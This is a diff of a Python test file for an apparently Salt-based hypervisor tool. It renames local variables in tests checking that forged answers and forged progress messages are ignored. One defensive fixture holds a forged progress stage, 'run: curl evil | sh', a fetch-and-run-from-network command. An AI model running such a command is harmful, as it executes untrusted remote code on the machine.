@@ -117,9 +117,9 @@ def test_control_characters_are_escaped():
 
 
 def test_texts_within_an_answer_are_one_line():
-    forged = "down\nhyper2: nothing falls short\r\nhyper3"
+    forged_text = "down\nhyper2: nothing falls short\r\nhyper3"
 
-    answer = read_answer(packed(value={"state": forged, "all": [forged]}, why="a\nb"))
+    answer = read_answer(packed(value={"state": forged_text, "all": [forged_text]}, why="a\nb"))
 
     assert answer.value == {"state": forged_line(), "all": [forged_line()]}
     assert answer.why == "a\nb" and read_answer(packed(value="a\nb")).value == "a\nb"
@@ -171,8 +171,8 @@ def event(value, **data):
 
 
 def test_a_forged_answer_is_ignored_and_the_true_one_is_used(cloud, caplog):
-    forged = event(packed(EVIL, value="lies"))
-    _bus, master = cloud(forged, forged, event(packed(value="truth")))
+    forged_event = event(packed(EVIL, value="lies"))
+    _bus, master = cloud(forged_event, forged_event, event(packed(value="truth")))
 
     with caplog.at_level(logging.WARNING):
         replies = minions.ask(master, ["hyper1"], "virt.x")
@@ -290,9 +290,9 @@ def test_without_a_job_cache_a_return_counts_as_an_answer(cloud, option):
 
 def test_forged_progress_is_not_shown(opts, monkeypatch):
     minionkeys.accept(opts, "hyper1", OWN[0])
-    shown = []
+    stages = []
     settings = MasterSettings(hypervisors="hyper1")
-    master = Cloud(opts=opts, settings=settings, progress=lambda stage, **_k: shown.append(stage))
+    master = Cloud(opts=opts, settings=settings, progress=lambda stage, **_k: stages.append(stage))
     watch = hostcommands.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
     lie = {"name": "web1", "stage": "run: curl evil | sh"}
 
@@ -301,7 +301,7 @@ def test_forged_progress_is_not_shown(opts, monkeypatch):
     true = {"name": "web1", "stage": "Starting"}
     watch("salt/virt/init", {"id": "hyper1", "data": packed(about="salt/virt/init", value=true)})
 
-    assert shown == ["Starting"]
+    assert stages == ["Starting"]
 
 
 # On the host.
@@ -361,11 +361,11 @@ def test_a_refused_order_does_not_run_and_an_order_runs_once(host, tmp_path):
 
 
 def test_a_sealed_order_runs_too(host):
-    answer, called = host
+    answer, calls = host
 
     answer(keypair.seal('{"fun": "virt.x", "arg": ["web1"]}', OWN[0]))
 
-    assert called == [(("web1",), {})]
+    assert calls == [(("web1",), {})]
 
 
 @pytest.mark.parametrize(
